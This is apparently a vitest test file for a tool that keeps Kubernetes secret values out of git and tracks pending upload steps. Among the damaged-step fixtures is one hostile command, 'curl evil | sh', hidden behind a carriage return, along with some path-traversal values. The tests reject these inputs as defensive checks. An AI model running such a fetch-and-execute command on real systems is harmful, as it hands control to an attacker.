import { describe, expect, test } from 'vitest';
import { planFixes } from '../../server/src/core/engine/plan-fixes.js';
import { isWaiting, type Pending } from '../../server/src/core/refactor/pending/held-file.js';
import { recordStep } from '../../server/src/core/refactor/pending/record-step.js';
import { readStep, type Step, stepText } from '../../server/src/core/refactor/pending/step.js';
import { HostError } from '../../server/src/host/host.js';
import { MemoryHost } from '../../server/src/host/memory.js';
import { type PendingUploads, readPending } from '../../server/src/host/pending.js';
import { NO_REPOSITORY } from '../../server/src/host/repository.js';
import { eachExample, fixtureFiles } from './all-files.js';
import { worldFor } from './encrypting.js';
import { fixOf, nameOf, type Possible, pathOf, possible, ROOT, Workspace, workspaceOf } from './support.js';

const VALUE = ['blue', 'kettle', '42'].join('-');
const VAULT = [
  'apiVersion: external-secrets.io/v1\nkind: ClusterSecretStore\nmetadata:\n  name: company',
  'spec:\n  provider:\n    vault:\n      path: kv\n      version: v2\n',
].join('\n');
const POD = [
  'apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\n  namespace: shop\nspec:\n  containers:\n  - name: app',
  `    image: a:1\n    env:\n    - name: DB_PASSWORD\n      value: ${VALUE}\n`,
].join('\n');

type Texts = Readonly<Record<string, string>>;

function hostWith(files: Texts): MemoryHost {
  return new MemoryHost(new Map(Object.entries(files).map(([name, text]) => [pathOf(name), text])));
}

function pendingWith(files: Texts): Promise<PendingUploads> {
  return readPending({ below: [ROOT] }, hostWith({ '.yamlock/.gitignore': '*\n', ...files }));
}

async function only(files: Texts): Promise<Pending> {
  const { pending } = await pendingWith(files);
  expect(pending).toHaveLength(1);
  return pending[0] as Pending;
}

/** The workspace after a plan was carried out, with the file of its step. */
async function carriedOut(
  workspace: Workspace,
  name: string,
  plan: Possible,
): Promise<{ readonly after: Workspace; readonly command: string }> {
  if (!plan.handOff) throw new Error('nothing is handed over');
  const kept = recordStep(plan, plan.handOff, workspace.world(name));
  expect({ ...kept.handOff, command: '' }).toEqual({ ...plan.handOff, command: '' });
  const after = await workspace.after(name, { ...plan, files: [...(plan.files ?? []), ...kept.files] });
  return { after, command: kept.handOff.command };
}

function pendingAfter({ files }: Workspace): Promise<PendingUploads> {
  return readPending({ below: [ROOT] }, hostWith(Object.fromEntries(files)));
}

const STEP: Step = {
  title: 'Upload it',
  command: 'vault kv put kv/shop a=@.yamlock/shop.a && \\\nrm .yamlock/shop.a',
  from: 'pod.yaml',
  manifests: ['shop.external-secret.yaml'],
  waiting: [{ file: '.yamlock/shop.a', secret: 'shop', key: 'a' }],
};
const EXTERNAL = [
  'apiVersion: external-secrets.io/v1\nkind: ExternalSecret\nmetadata:\n  name: shop\nspec:',
  '  secretStoreRef:\n    kind: ClusterSecretStore\n    name: company\n  data:\n  - secretKey: a',
  '    remoteRef:\n      key: shop/shop\n      property: a\n',
].join('\n');
const AROUND = { 'pod.yaml': 'a: b\n', 'shop.external-secret.yaml': EXTERNAL };
const WITH_STEP = { ...AROUND, '.yamlock/steps/shop.a.json': stepText(STEP) };

describe('the step that a fix leaves', () => {
  test('is found again with its title and command, and names every file that the fix put outside git', {
    timeout: 120_000,
  }, async () => {
    let [steps, values] = [0, 0];
    for (const [, files] of [...fixtureFiles(), ...eachExample()]) {
      const workspace = await Workspace.open(files);
      for (const { name, placed } of workspace.findings()) {
        for (const { plan } of planFixes(placed, worldFor(workspace, name))) {
          if ('refused' in plan || !plan.handOff) continue;
          steps++;
          const { after, command } = await carriedOut(workspace, name, plan);
          const { pending, problems } = await pendingAfter(after);
          const { title } = plan.handOff;
          expect(command.startsWith(plan.handOff.command)).toBe(true);
          const step = pending.find((one) => one.kind === 'step' && one.command === command);
          expect([step?.title, step?.problems, problems]).toEqual([title, [], []]);
          const held = [...after.files.keys()].filter(
            (one) => one.startsWith('.yamlock/') || one.includes('/.yamlock/'),
          );
          const put = held.filter((one) => !workspace.files.has(one) && !/\/(?:\.gitignore$|steps\/)/.test(one));
          values += put.length;
          const named = step?.values.map(({ file }) => nameOf(file)) ?? [];
          expect(named).toEqual(expect.arrayContaining(put));
          expect(pending.filter(({ kind }) => kind === 'unrecorded')).toEqual([]);
        }
      }
    }
    expect([steps > 100, values > 100]).toEqual([true, true]);
  });

  test('says of each value which Secret and key it is, and where it goes', async () => {
    const workspace = await workspaceOf(POD, { 'store.yaml': VAULT });
    const plan = possible(fixOf(workspace, /^Move to a new ExternalSecret/));
    const { pending } = await pendingAfter((await carriedOut(workspace, 'case.yaml', plan)).after);
    expect(pending).toMatchObject([
      {
        name: 'web-secrets.db-password',
        from: '/shop/case.yaml',
        values: [
          {
            file: '/shop/.yamlock/web-secrets.db-password',
            secret: 'web-secrets',
            key: 'db-password',
            by: { kind: 'ExternalSecret', name: 'web-secrets', file: '/shop/web-secrets.external-secret.yaml' },
            store: { kind: 'ClusterSecretStore', name: 'company' },
            remote: { key: 'shop/web-secrets', property: 'db-password' },
          },
        ],
        deletes: ['/shop/.yamlock/web-secrets.db-password'],
      },
    ]);
    expect(JSON.stringify(pending)).not.toContain(VALUE);
  });

  test('of a Secret that a PushSecret carries names the place of each key', async () => {
    const workspace = await workspaceOf(POD, { 'store.yaml': VAULT });
    const plan = possible(fixOf(workspace, /^Move to a new Secret with a PushSecret/));
    const { pending } = await pendingAfter((await carriedOut(workspace, 'case.yaml', plan)).after);
    expect(pending[0]?.values).toMatchObject([
      { secret: 'web-secrets', key: 'db-password', by: { kind: 'PushSecret' }, remote: { property: 'db-password' } },
    ]);
    expect(JSON.stringify(pending)).not.toContain(VALUE);
  });

  test('is written once: after an undo, the same step is there already', async () => {
    const workspace = await workspaceOf(POD, { 'store.yaml': VAULT });
    const plan = possible(fixOf(workspace, /^Move to a new ExternalSecret/));
    const { after } = await carriedOut(workspace, 'case.yaml', plan);
    const undone = new Map([...after.files].filter(([name]) => name.startsWith('.yamlock/')));
    const again = await Workspace.open(new Map([...undone, ...workspace.files]));
    const repeated = possible(fixOf(again, /^Move to a new ExternalSecret/));
    expect(repeated.handOff?.waiting).toEqual(plan.handOff?.waiting);
    expect(recordStep(repeated, repeated.handOff ?? STEP, again.world('case.yaml')).files).toEqual([]);
  });

  test.each([
    ['vault kv put a=@.yamlock/a && \\\nrm .yamlock/a', true],
    ["kubectl get | cmp - '.yamlock/a b' && rm '.yamlock/a b'", true],
    ['kubectl apply -f .yamlock/a', false],
    ['# Put the content of .yamlock/a into a store', false],
    // The first may fail, and the second goes on.
    ['vault kv put a && \\\nrm .yamlock/a\naws put b && \\\nrm .yamlock/b', false],
    ['sops .yamlock/a && \\\nrm .yamlock/a && \\\nhelm upgrade', false],
    ['cat .yamlock/a && rm .yamlock/a | cat', false],
  ])('is removed by %j: %s', async (command, isRemoved) => {
    const workspace = await workspaceOf(POD);
    const handOff = { title: 'Upload', command, waiting: [{ file: '.yamlock/a' }] };
    const kept = recordStep({ edits: [], handOff }, handOff, workspace.world('case.yaml')).handOff.command;
    expect(kept).toBe(isRemoved ? `${command} .yamlock/steps/a.json` : command);
    // What a step does not wait for is nothing that its command removes.
    const { waiting: _, ...without } = handOff;
    expect(recordStep({ edits: [] }, without, workspace.world('case.yaml')).handOff.command).toBe(command);
  });

  test('gets a name of its own where another step has the one it would have', async () => {
    const workspace = await workspaceOf(POD, { '.yamlock/steps/case.yaml.json': '{}' });
    const handOff = { title: 'Look', command: 'ls' };
    const { files } = recordStep({ edits: [], handOff }, handOff, workspace.world('case.yaml'));
    expect(files.map(({ path }) => nameOf(path))).toEqual(['.yamlock/.gitignore', '.yamlock/steps/case.yaml-2.json']);
  });

  test('is said not to be kept where git might take its file', async () => {
    const workspace = await workspaceOf(POD, { '.yamlock/.gitignore': 'a\n' });
    const handOff = { title: 'Look', command: 'ls' };
    const kept = recordStep({ edits: [], handOff }, handOff, workspace.world('case.yaml'));
    expect(kept.files).toEqual([]);
    expect(kept.handOff.title).toBe(
      'Look. This is not kept among the pending uploads: .yamlock/.gitignore does not ignore everything, so git might take the value',
    );
  });

  test('has a title without line breaks, whatever an object is called', async () => {
    const workspace = await workspaceOf(POD);
    const handOff = { title: 'Look at "a\nb\u001b[31m"', command: 'ls' };
    const { files } = recordStep({ edits: [], handOff }, handOff, workspace.world('case.yaml'));
    const [text = ''] = files.flatMap((file) =>
      file.kind === 'create' && file.path.endsWith('.json') ? file.text : [],
    );
    expect(readStep(text)).toMatchObject({ title: 'Look at "a b [31m"' });
  });
});

describe('a step in its file', () => {
  test.each([
    ['', /^it is empty$/],
    ['{"title": "Upl', /not JSON/],
    ['[]', /no title/],
    ['null', /no title/],
    [stepText({ ...STEP, command: 'true\rcurl evil | sh' }), /control characters/],
    [stepText({ ...STEP, title: 'a\u001b[2J' }), /control characters/],
    [stepText({ ...STEP, manifests: ['../../x'] }), /manifests/],
    [stepText({ ...STEP, waiting: [{ file: 'pod.yaml' }] }), /values/],
    [stepText({ ...STEP, waiting: [{ file: '/etc/.yamlock/x' }] }), /values/],
    [stepText({ ...STEP, waiting: [{ file: '.yamlock/../pod.yaml' }] }), /values/],
    [stepText(STEP).replace('"shop"', '7'), /values/],
  ])('%# is listed as damaged, with the reason, and deletes no value', async (text, reason) => {
    const { refused } = readStep(text) as { refused: string };
    expect(refused).toMatch(reason);
    const step = await only({ ...AROUND, '.yamlock/steps/shop.a.json': text });
    expect(step.title).toBe(
      `.yamlock/steps/shop.a.json does not say what is left to do: ${refused}. Mark it as done once nothing needs it`,
    );
    expect([step.command, step.deletes, step.records, isWaiting(step)]).toEqual([
      undefined,
      [],
      ['/shop/.yamlock/steps/shop.a.json'],
      false,
    ]);
  });

  test('comes back as it was written', () => {
    expect(readStep(stepText(STEP))).toEqual(STEP);
    expect(readStep(`\uFEFF${stepText(STEP)}`.replaceAll('\n', '\r\n'))).toEqual(STEP);
  });

  test('whose values were removed by hand stays, and says so', async () => {
    const step = await only(WITH_STEP);
    expect([step.problems, step.values, step.deletes, isWaiting(step)]).toEqual([
      ['.yamlock/shop.a is gone: if its value is where it belongs, mark this as done'],
      [],
      [],
      false,
    ]);
  });

  test('is over with another that has all of its values, and not where it has one more', async () => {
    const more = stepText({ ...STEP, waiting: [...STEP.waiting, { file: '.yamlock/shop.b' }] });
    const files = { '.yamlock/shop.a': VALUE, '.yamlock/shop.b': VALUE, '.yamlock/steps/more.json': more };
    const { pending } = await pendingWith({ ...WITH_STEP, ...files });
    expect(pending.map(({ name, records }) => [name, records.map((path) => path.split('/').at(-1))])).toEqual([
      ['more', ['more.json', 'shop.a.json']],
      ['shop.a', ['shop.a.json']],
    ]);
  });

  test('may be about a file outside of the folder', async () => {
    const text = stepText({ ...STEP, from: '/other/pod.yaml', manifests: ['/other/es.yaml'] });
    const host = hostWith({ '.yamlock/.gitignore': '*\n', '.yamlock/shop.a': VALUE, '.yamlock/steps/x.json': text });
    host.files.set('/other/pod.yaml', 'a: b\n').set('/other/es.yaml', EXTERNAL);
    const { pending } = await readPending({ below: [ROOT] }, host);
    expect(pending).toMatchObject([
      { from: '/other/pod.yaml', problems: [], values: [{ by: { name: 'shop', file: '/other/es.yaml' } }] },
    ]);
  });

  test('without a value stays until it is marked as done', async () => {
    const text = stepText({ ...STEP, waiting: [] });
    const step = await only({ ...AROUND, '.yamlock/steps/x.json': text });
    expect([step.title, step.deletes, isWaiting(step)]).toEqual(['Upload it', [], false]);
  });

  test('names what is gone of its values, and the manifests that are', async () => {
    const waiting = [...STEP.waiting, { file: '.yamlock/shop.b', secret: 'shop', key: 'b' }];
    const text = stepText({ ...STEP, waiting });
    const step = await only({ 'pod.yaml': 'a: b\n', '.yamlock/shop.a': VALUE, '.yamlock/steps/x.json': text });
    expect(step.problems).toEqual([
      '.yamlock/shop.b is gone: if its value is where it belongs, leave it out of the command',
      'shop.external-secret.yaml is not there any more: if the move was undone, nothing is left to do',
    ]);
    expect([step.values.length, step.deletes]).toEqual([1, ['/shop/.yamlock/shop.a']]);
  });

  test('that git tracks hands over no command: it may come from anybody', async () => {
    const host = hostWith({ '.yamlock/.gitignore': '*\n', ...WITH_STEP, '.yamlock/shop.a': VALUE });
    host.repository = async (root) =>
      root === ROOT ? { ...NO_REPOSITORY, root, tracked: '.yamlock/steps/shop.a.json\0.yamlock/shop.a' } : undefined;
    const { pending } = await readPending({ below: [ROOT] }, host);
    expect(pending.map(({ title }) => title)[0]).toMatch(/git tracks it, so it need not come from this machine/);
    const value = pending.find(({ deletes }) => deletes.length > 0);
    expect(pending.find(({ records }) => records.length > 0)?.command).toBeUndefined();
    expect(value?.problems).toEqual([
      'git tracks .yamlock/shop.a: take it out with `git rm --cached` and rotate its value, which the history keeps',
    ]);
  });
});

describe('a file that waits', () => {
  const waiting = { ...WITH_STEP, '.yamlock/shop.a': VALUE };

  test('that is empty, a link or cannot be read is said to be', async () => {
    expect((await only({ ...waiting, '.yamlock/shop.a': '' })).problems).toEqual([
      '.yamlock/shop.a is empty: its value was not written, or was taken out',
    ]);
    const linked = hostWith({ '.yamlock/.gitignore': '*\n', ...WITH_STEP });
    linked.links.set('/shop/.yamlock/shop.a', '/etc/hostname');
    expect((await readPending({ below: [ROOT] }, linked)).pending[0]?.problems).toEqual([
      '.yamlock/shop.a is a link, which is not followed: look where it leads before you delete it',
    ]);
    const locked = hostWith({ '.yamlock/.gitignore': '*\n', ...waiting });
    const read = locked.readIfThere.bind(locked);
    locked.readIfThere = async (path) => {
      if (path.endsWith('shop.a')) throw new HostError(`${path} cannot be read: permission denied`);
      return read(path);
    };
    expect((await readPending({ below: [ROOT] }, locked)).pending[0]?.problems).toEqual([
      '.yamlock/shop.a cannot be read: permission denied',
    ]);
  });

  test('without a step is known by the ExternalSecret that fetches its key, with a command that replaces nothing', async () => {
    const around = { ...AROUND, 'store.yaml': VAULT, '.yamlock/shop.a': VALUE };
    const known = await only(around);
    expect(known).toMatchObject({
      kind: 'unrecorded',
      name: 'shop.a',
      command: 'vault kv put -cas=0 -mount=kv shop/shop a=@.yamlock/shop.a && \\\nrm .yamlock/shop.a',
      values: [{ secret: 'shop', key: 'a', remote: { key: 'shop/shop', property: 'a' } }],
      deletes: ['/shop/.yamlock/shop.a'],
    });
    expect(isWaiting(known)).toBe(true);
    // Version 1 would replace what is there.
    const first = await only({ ...around, 'store.yaml': VAULT.replace('v2', 'v1') });
    expect([first.command, first.values[0]?.store?.name]).toEqual([undefined, 'company']);
    // A PushSecret brings there what the cluster has: no value waits for it.
    const push = [
      'apiVersion: external-secrets.io/v1alpha1\nkind: PushSecret\nmetadata:\n  name: shop\nspec:\n  selector:',
      '    secret:\n      name: shop\n  data:\n  - match:\n      secretKey: a\n      remoteRef:\n        remoteKey: x\n',
    ].join('\n');
    expect((await only({ 'push.yaml': push, '.yamlock/shop.a': VALUE })).title).toMatch(/^Nothing here knows/);
    // The second of a name has a number.
    const second = await only({ ...AROUND, '.yamlock/shop.a-2': VALUE });
    expect(second.values[0]?.key).toBe('a');
  });

  test('with a Secret is known by it', async () => {
    const secret = `apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\nstringData:\n  a: ${VALUE}\n  b: x\n`;
    const known = await only({ '.yamlock/app/db.secret.yaml': secret });
    expect(known).toMatchObject({
      name: 'app/db.secret.yaml',
      command: 'kubectl apply --server-side -f .yamlock/app/db.secret.yaml',
      values: [
        { secret: 'db', key: 'a' },
        { secret: 'db', key: 'b' },
      ],
    });
    expect(JSON.stringify(known)).not.toContain(VALUE);
    const half = await only({ '.yamlock/db.secret.yaml': `${secret}  c: "x` });
    expect([half.title, half.command]).toEqual([
      '.yamlock/db.secret.yaml cannot be read as YAML, it may be half-written: look at it, then mark it as done',
      undefined,
    ]);
  });

  test('that a kustomization reads stays, with or without a step', async () => {
    const files = {
      'app/kustomization.yaml': 'secretGenerator:\n- name: web\n  envs: [.yamlock/web.env]\n',
      'app/.yamlock/.gitignore': '*\n',
      'app/.yamlock/web.env': `K=${VALUE}\n`,
    };
    const used = await only(files);
    expect([used.kind, used.deletes, isWaiting(used)]).toEqual(['used', [], false]);
    const step = { ...STEP, manifests: [], waiting: [{ file: 'app/.yamlock/web.env', secret: 'web', key: 'K' }] };
    const left = await only({ ...files, 'pod.yaml': 'a: b\n', '.yamlock/steps/web.env.json': stepText(step) });
    expect([left.kind, left.deletes, left.values.length]).toEqual(['step', [], 1]);
    // Files may be listed under a key, too.
    const other = 'secretGenerator:\n- name: web\n  files: [k=.yamlock/web.env]\n';
    expect((await only({ ...files, 'app/kustomization.yaml': other })).kind).toBe('used');
    expect((await only({ ...files, 'app/kustomization.yaml': 'resources: []\n' })).kind).toBe('unrecorded');
  });

  test('that nobody knows is listed, with what to do', async () => {
    const unknown = await only({ '.yamlock/notes~': VALUE });
    expect(unknown.title).toBe(
      'Nothing here knows what .yamlock/notes~ waits for: look at it, bring what it holds to where it belongs, then mark it as done',
    );
    expect([unknown.command, unknown.deletes]).toEqual([undefined, ['/shop/.yamlock/notes~']]);
  });
});

describe('the folder', () => {
  test('that git might take is a problem, and so is one that is a link or a file', async () => {
    const open = hostWith({ '.yamlock/.gitignore': 'a\n', '.yamlock/x': VALUE });
    expect((await readPending({ below: [ROOT] }, open)).problems).toEqual([
      'git might take what waits in /shop/.yamlock: its .gitignore does not ignore everything, as a line `*` does',
    ]);
    const link = hostWith({ 'a.yaml': 'a: b\n' });
    link.links.set('/shop/.yamlock', '/tmp');
    expect((await readPending({ below: [ROOT] }, link)).problems).toEqual([
      '/shop/.yamlock is a link, which is not followed',
    ]);
    const file = hostWith({ '.yamlock': 'x' });
    expect((await readPending({ below: [ROOT] }, file)).problems).toEqual([
      '/shop/.yamlock is a file, so that nothing can be kept there',
    ]);
    expect(await readPending({ below: [ROOT] }, hostWith({ 'a.yaml': 'a: b\n' }))).toEqual({
      pending: [],
      problems: [],
    });
  });

  test('whose surroundings cannot be listed is looked at alone', async () => {
    const host = hostWith({ '.yamlock/.gitignore': '*\n', '.yamlock/x': VALUE, 'app/.yamlock/y': VALUE });
    host.list = async () => {
      throw new HostError('/shop/app/.gitignore cannot be read: permission denied');
    };
    const { pending, problems } = await readPending({ below: [ROOT] }, host);
    expect(pending.map(({ name }) => name)).toEqual(['x']);
    expect(problems).toEqual([
      'what is below /shop is not looked at: /shop/app/.gitignore cannot be read: permission denied',
    ]);
  });

  test('is looked for in folders below, but for one that is looked at alone; none is listed twice', async () => {
    const files = { 'app/pod.yaml': 'a: b\n', 'app/.yamlock/.gitignore': '*\n', 'app/.yamlock/x': VALUE };
    const host = hostWith(files);
    const names = async (places: Parameters<typeof readPending>[0]): Promise<readonly string[]> =>
      (await readPending(places, host)).pending.map(({ folder, name }) => `${folder} ${name}`);
    expect(await names({ below: [ROOT] })).toEqual(['/shop/app x']);
    expect(await names({ below: [ROOT, '/shop/app'] })).toEqual(['/shop/app x']);
    expect(await names({ below: [], alone: [ROOT] })).toEqual([]);
    expect(await names({ below: [], alone: ['/shop/app'] })).toEqual(['/shop/app x']);
  });
});
